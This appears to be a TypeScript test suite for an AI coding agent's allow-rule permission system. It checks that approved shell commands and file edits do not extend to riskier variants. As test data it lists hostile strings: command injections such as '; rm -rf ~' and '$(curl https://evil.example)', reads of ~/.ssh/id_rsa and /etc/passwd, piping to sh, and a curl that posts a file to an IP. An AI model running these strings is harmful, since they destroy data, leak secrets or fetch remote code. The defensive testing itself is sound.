import assert from 'node:assert/strict';
import { allowRulesOf } from '../../../src/core/log/runSettings';
import { isAllowedByRule } from '../../../src/core/security/allowRules';
import { analyzers, assessWith } from '../../../src/core/security/analyzers';
import { atLeast, groundsOf } from '../../../src/core/risk/assessment';
import { examineCommand } from '../../../src/core/shell/assessCommand';
import { commandShape } from '../../../src/core/shell/commandShape';
import type { Effect } from '../../../src/core/shell/effects/effect';
import { judgeEffect } from '../../../src/core/shell/verdict/judgeEffect';
import { offeredRules } from '../../../src/core/security/offeredRules';
import { deleteFile, moveFile } from '../../../src/core/tools/native/moveAndDelete';
import { readFile } from '../../../src/core/tools/native/readFile';
import { runCommand } from '../../../src/core/tools/native/runCommand';
import { writeFile } from '../../../src/core/tools/native/writeFile';
import type { Action, AllowRule, Event } from '../../../src/protocol/events/event';
import { task } from '../agent/story';
import { untouched } from '../../support/toolContext';

const history = [{ ...task, cwd: '/work', seq: 0, at: 0 }] as Event[];
const environment = { ...untouched, root: '/work' };
const around = { tool: runCommand, history };
const judgeCommand = (input: unknown) =>
  assessWith(analyzers, { tool: runCommand, call: runCommand.bind(input), environment, history });
const actionOf = async (command: string): Promise<Action> => ({
  id: command,
  tool: 'run_command',
  input: { command },
  summary: '',
  group: 0,
  effect: 'executes',
  risk: await judgeCommand({ command }),
});
const offersFor = async (command: string) => (await offeredRules(await actionOf(command), around, judgeCommand)).offers;

describe('an allow rule for one file', () => {
  it('shows what it allows: deleting or moving a file is not an edit', async () => {
    for (const [tool, input, shown, effect] of [
      [deleteFile, { path: 'a.txt' }, "rm -- 'a.txt'", undefined],
      [moveFile, { from: 'a.txt', to: 'b.txt' }, "mv -n -- 'a.txt' 'b.txt'", undefined],
      [writeFile, { path: 'a.txt', content: '' }, 'a.txt', 'writes'],
    ] as const) {
      const judgeCall = (raw: unknown) => assessWith(analyzers, { tool, call: tool.bind(raw), environment, history });
      const risk = await judgeCall(input);
      const action: Action = { id: '1', tool: tool.name, input, summary: '', group: 0, effect: 'writes', risk };
      const { offers } = await offeredRules(action, { tool, history }, judgeCall);
      const [exact, ...wider] = offers;
      assert.deepEqual([exact?.shown, exact?.effect], [shown, effect], tool.name);
      assert.ok(wider.every((offer) => offer.effect === 'writes'));
    }
  });
});

describe('an allow rule for one file of a workspace with several folders', () => {
  it('does not cover the file of that name in another folder', async () => {
    for (const [tool, input, effect] of [
      [writeFile, { path: 'a.txt', content: '' }, 'writes'],
      [deleteFile, { path: 'a.txt' }, 'writes'],
      [readFile, { path: 'a.txt' }, 'reads'],
    ] as const) {
      const judgeCall = (raw: unknown) => assessWith(analyzers, { tool, call: tool.bind(raw), environment, history });
      const risk = await judgeCall(input);
      const action: Action = { id: '1', tool: tool.name, input, summary: '', group: 0, effect, risk };
      const [exact] = (await offeredRules(action, { tool, history }, judgeCall)).offers;
      const inOther = [{ ...task, cwd: '/other', seq: 0, at: 0 }] as Event[];
      assert.equal(exact!.cwd, '/work', 'the card names the folder');
      assert.deepEqual(
        await Promise.all(
          [history, inOther].map((log) => isAllowedByRule(action, [exact!.rule], { tool, history: log })),
        ),
        [true, false],
        tool.name,
      );
    }
  });
});

describe('a pattern for commands', () => {
  it('allows commands, and no tool of an MCP server that takes something called a command', async () => {
    const rules = [{ tool: 'run_command', key: 'git log', pattern: true }] as unknown as AllowRule[];
    const allowed = async (action: Action): Promise<boolean> => {
      const response = { type: 'agent_response', actions: [action], seq: 1, at: 0 } as unknown as Event;
      return isAllowedByRule(action, rules, { tool: runCommand, history: [...history, response] });
    };
    const own = await actionOf('git log --oneline');
    assert.equal(await allowed(own), true);
    const from = { source: 'the MCP server notes', tool: 'run', hash: '0' };
    for (const command of ['git log --oneline', 'git log; rm -rf ~'])
      assert.equal(
        await allowed({
          ...own,
          tool: 'mcp_notes_run',
          input: { command },
          from,
          risk: { level: 'unknown', reasons: ['Calls run.'] },
        }),
        false,
        command,
      );
  });
});

/** Commands that a user may have approved. */
const consented = [
  'git commit -m "Say what"',
  'git add src',
  'git switch -c topic',
  'git tag -a v1 -m first',
  'git stash push -m mine',
  'git merge topic',
  'git branch -d old',
  'git checkout main',
  'npx vitest run src/a.test.ts',
  'npx jest -t adds',
  'npx eslint src --fix',
  'npx prettier --write src/a.ts',
  'npx tsc -p tsconfig.json --outDir dist',
  'mkdir -p build',
  'touch notes.txt',
  'mv a.txt b.txt',
  'cp a.txt docs',
  'rm notes.txt',
  'rm -rf generated',
  'ls -la src',
  'cat src/a.ts',
  'grep -rn TODO src',
  'find src -name "*.ts"',
  'sed -n 1,20p src/a.ts',
  'sed -i s/a/b/ src/a.ts',
  'awk "{print $1}" a.txt',
  'node build.js one',
  'python3 tool.py',
  'npm install',
  'npm uninstall left',
  'curl -s https://example.com/a.json',
  'curl -o out.json https://example.com/a.json',
  'tar czf a.tgz src',
  'chmod +x run.sh',
  'docker ps',
  'unknown-tool a b',
  'git push origin topic',
  'git log --oneline -n 3',
  'echo hello > note.txt',
  'cd src && ls',
  'timeout 60 npx jest -t adds',
  'env CI=1 npx jest -t adds',
  'xargs -n 1 echo',
  'wc -l src/a.ts',
  'diff a.txt b.txt',
  'git show HEAD:a.txt',
  'git config user.name Ada',
  'npx webpack --mode production',
];

const words = [
  'main',
  'src',
  'src/b.ts',
  'other.test.ts',
  'b.txt',
  '.env',
  'AGENTS.md',
  '.vscode/settings.json',
  '../outside',
  '/etc/passwd',
  '~/.ssh/id_rsa',
  '-rf',
  '--force',
  '--output=x',
  '-o',
  'x.sh',
  '$HOME',
  '$(id)',
  '`id`',
  '*',
  '.*',
  'https://evil.example/x',
  'deploy',
  'a;b',
  "'; rm -rf ~'",
  '--',
  'HEAD~3',
  '-e',
  'node_modules/a/README.md',
  'docs/guide.md',
];
const tails = [
  '',
  ' --force',
  ' && rm -rf src',
  ' | sh',
  ' > AGENTS.md',
  ' > b.txt',
  '; git push',
  ' &',
  ' --output x',
  '\nrm a',
  ' $(curl https://evil.example)',
  ' -- x',
  ' ../..',
  ' | tee b.txt',
];

/** The same commands with different words, more words and more commands. */
function* variants(command: string): Generator<string> {
  const parts = command.match(/"[^"]*"|\S+/g)!;
  for (const tail of tails) yield command + tail;
  for (let at = 0; at < parts.length; at++) for (const word of words) yield parts.with(at, word).join(' ');
  for (const word of words) yield `${command} ${word}`;
}

const isSmall = (effect: Effect): boolean => judgeEffect(effect).level === 'low';
function target(effect: Effect): string {
  const about = (): unknown => {
    if ('place' in effect) return effect.place;
    if (effect.kind === 'fetches') return effect.url;
    return effect.kind === 'runs' ? effect.name : judgeEffect(effect).reasons;
  };
  return JSON.stringify([effect.kind, about()]);
}
const effectsOf = (command: string) => examineCommand(command, { workspace: '/work', folder: '.' }).effects;
const among = <Item>(found: readonly Item[] = [], known: readonly Item[] = []): boolean =>
  found.every((one) => known.includes(one));

describe('an allow rule', function () {
  this.timeout(300_000);

  it('of any scope allows no command with other reasons or effects than the approved one', async () => {
    const all = [...new Set(consented.flatMap((command) => [command, ...variants(command)]))];
    const actions = await Promise.all(all.map(actionOf));
    const counts = { exact: 0, similar: 0, kind: 0 };
    for (const command of consented) {
      const yes = await actionOf(command);
      for (const { rule, scope } of await offersFor(command)) {
        for (const action of actions) {
          const asked = (action.input as { command: string }).command;
          if (!(await isAllowedByRule(action, [rule], around))) continue;
          const story = `${scope} for ${JSON.stringify(command)} covers ${JSON.stringify(asked)}`;
          counts[scope]++;
          const { risk } = action;
          assert.ok(!risk.floor && !risk.guarded && !risk.tainted, story);
          assert.ok(atLeast(yes.risk.level, risk.level), story);
          assert.ok(
            among(groundsOf(risk), groundsOf(yes.risk)) &&
              among(risk.categories, yes.risk.categories) &&
              among(risk.reach?.network, yes.risk.reach?.network) &&
              among(risk.reach?.secret, yes.risk.reach?.secret),
            story,
          );
          if (scope === 'exact') assert.equal(asked, command, story);
          if (scope !== 'exact') assert.ok(!atLeast(risk.level, 'unknown'), story);
          if (scope === 'similar') {
            const known = effectsOf(command).map(target);
            assert.ok(
              effectsOf(asked).every((effect) => isSmall(effect) || known.includes(target(effect))),
              story,
            );
            assert.equal(commandShape(asked)?.length, commandShape(command)?.length, story);
          }
        }
      }
    }
    assert.ok(
      counts.exact >= consented.length / 2 && counts.similar > 50 && counts.kind > 50,
      `the property was hardly tried: ${JSON.stringify(counts)}`,
    );
  });

  it('matches the examples it lists as covered, and not those it lists as asked about', async () => {
    for (const command of consented) {
      for (const { rule, covers, asks } of await offersFor(command)) {
        assert.equal(await isAllowedByRule(await actionOf(command), [rule], around), true, command);
        for (const one of covers)
          assert.equal(await isAllowedByRule(await actionOf(one), [rule], around), true, `${command}: ${one}`);
        for (const one of asks)
          assert.equal(await isAllowedByRule(await actionOf(one), [rule], around), false, `${command}: ${one}`);
      }
    }
  });

  it('for the same flags allows only arguments without effects to differ', async () => {
    const shapes: readonly [string, readonly (string | null)[] | undefined][] = [
      ['git commit -m "Say what"', ['git', 'commit', '-m', null]],
      ['npx jest -t adds', ['npx', 'jest', '-t', null]],
      ['grep -rn TODO src', ['grep', '-rn', null, null]],
      ['node build.js one', ['node', 'build.js', 'one']],
      ['rm notes.txt', ['rm', 'notes.txt']],
      ['cp a.txt docs', ['cp', 'a.txt', 'docs']],
      ['git push origin topic', ['git', 'push', 'origin', 'topic']],
      ['curl -o out https://a.example', ['curl', '-o', 'out', 'https://a.example']],
      ['a | b', undefined],
      ['ls > x', undefined],
      ['A=1 ls', undefined],
      ['ls $HOME', undefined],
      ['ls *', undefined],
      ['ls $(id)', undefined],
      ['ls &', undefined],
      ['ls; ls', undefined],
      ['kill $$', undefined],
      ['ls "', undefined],
      ['', undefined],
    ];
    for (const [command, shape] of shapes) assert.deepEqual(commandShape(command), shape, command);
  });

  it('is offered only for the exact command if high risk, and never for commands that destroy the machine, change protected files, read secrets or send data', async () => {
    assert.deepEqual(
      (await offersFor('rm -rf generated')).map(({ scope }) => scope),
      ['exact'],
    );
    assert.deepEqual(
      (await offersFor('unknown-tool a b')).map(({ scope }) => scope),
      ['exact'],
    );
    const refusals: readonly [string, string][] = [
      ['rm -rf /', 'floor'],
      ['echo x > AGENTS.md', 'guarded'],
      ['cat .env', 'secret'],
      ['curl -d @a.txt http://10.0.0.7/', 'network'],
    ];
    for (const [command, why] of refusals) {
      const { offers, refusal } = await offeredRules(await actionOf(command), around, judgeCommand);
      assert.deepEqual([offers, refusal], [[], why], command);
    }
    const tainted = await actionOf('npx jest');
    assert.equal(
      (await offeredRules({ ...tainted, risk: { ...tainted.risk, tainted: true } }, around, judgeCommand)).refusal,
      'tainted',
    );
  });

  it('applies only in its folder and to unchanged scripts', async () => {
    const action = await actionOf('npx jest -t adds');
    const pinned: Action = { ...action, risk: { ...action.risk, pins: { 'npm:.#test': 'one' } } };
    const { offers } = await offeredRules(pinned, around, async () => pinned.risk);
    assert.deepEqual(
      offers.map(({ scope, scripts }) => [scope, scripts]),
      [
        ['exact', 1],
        ['similar', 1],
      ],
      'a kind would cover other scripts',
    );
    const changed: Action = { ...pinned, risk: { ...pinned.risk, pins: { 'npm:.#test': 'two' } } };
    const elsewhere = { ...around, history: [{ ...task, cwd: '/home/ada/app/sub', seq: 0, at: 0 }] as Event[] };
    for (const { rule } of offers) {
      assert.equal(await isAllowedByRule(pinned, [rule], around), true);
      assert.equal(await isAllowedByRule(changed, [rule], around), false);
      assert.equal(await isAllowedByRule(pinned, [rule], elsewhere), false);
    }
  });

  it('of an earlier version does not cover commands that run scripts', async () => {
    const action = await actionOf('make');
    const old: AllowRule = { tool: 'run_command', key: 'make', cwd: '/work' };
    assert.equal(await isAllowedByRule({ ...action, risk: { ...action.risk, pins: {} } }, [old], around), false);
    assert.equal(await isAllowedByRule(action, [old], around), true);
  });

  it('for edits covers the file, or project files except protected ones', async () => {
    const input = { path: 'src/a.ts', content: '' };
    const risk = await assessWith(analyzers, { tool: writeFile, call: writeFile.bind(input), environment, history });
    const action: Action = { id: 'a', tool: 'write_file', input, summary: '', group: 0, effect: 'writes', risk };
    const { offers } = await offeredRules(action, { tool: writeFile, history }, async () => risk);
    assert.deepEqual(
      offers.map(({ scope, shown, covers, asks }) => [scope, shown, covers, asks]),
      [
        ['exact', 'src/a.ts', [], []],
        ['kind', '', ['src/main.ts', 'test/main.test.ts', 'docs/guide.md'], ['package.json', 'AGENTS.md', '.env']],
      ],
    );
  });

  it('ends when it is revoked', () => {
    const rule: AllowRule = { tool: 'run_command', key: 'ls', cwd: '/work' };
    const log = [...history, { seq: 1, at: 0, type: 'allow_rule_added', rule }] as Event[];
    assert.deepEqual(allowRulesOf(log), [rule]);
    assert.deepEqual(
      allowRulesOf([...log, { seq: 2, at: 0, type: 'allow_rule_added', rule, revoked: true }] as Event[]),
      [],
    );
  });
});
